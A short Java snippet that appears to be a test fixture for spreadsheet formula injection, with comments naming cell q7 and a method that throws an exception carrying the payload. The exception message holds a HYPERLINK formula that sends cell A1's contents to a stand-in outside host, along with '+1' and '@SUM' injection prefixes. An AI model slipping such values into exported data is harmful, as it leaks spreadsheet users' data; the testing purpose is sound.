// Tries: says a formula that a spreadsheet would run
// Cell: q7
// Gets: q7 0
// Says: threw IllegalStateException: =HYPERLINK
double[] phi(double[] x) {
    throw new IllegalStateException("=HYPERLINK(\"http://192.0.2.1/?\"&A1)\n+1\n@SUM(A1)");
}
